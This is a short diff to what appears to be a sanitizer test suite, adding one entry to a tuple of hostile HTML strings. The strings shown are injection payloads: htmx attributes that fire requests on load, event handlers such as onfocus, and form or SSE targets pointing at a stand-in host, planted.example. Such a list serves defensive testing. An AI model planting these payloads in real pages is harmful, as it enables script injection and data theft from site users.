@@ -42,6 +42,7 @@ HOSTILE: Final[tuple[str, ...]] = (
     f"<button form=say formaction=https://planted.example/ {_MARK}>Send</button>",
     f"<input autofocus onfocus={_DO} {_MARK}>",
     f"<div hx-get=/inbox hx-trigger=load {_MARK}></div>",
+    f"<div data-details=https://planted.example/ {_MARK}></div>",
     f"<div hx-on:click={_DO} {_MARK}></div>",
     f"<div data-hx-get=https://planted.example/ data-hx-trigger=load {_MARK}></div>",
     f"<div sse-connect=https://planted.example/ hx-ext=sse {_MARK}></div>",
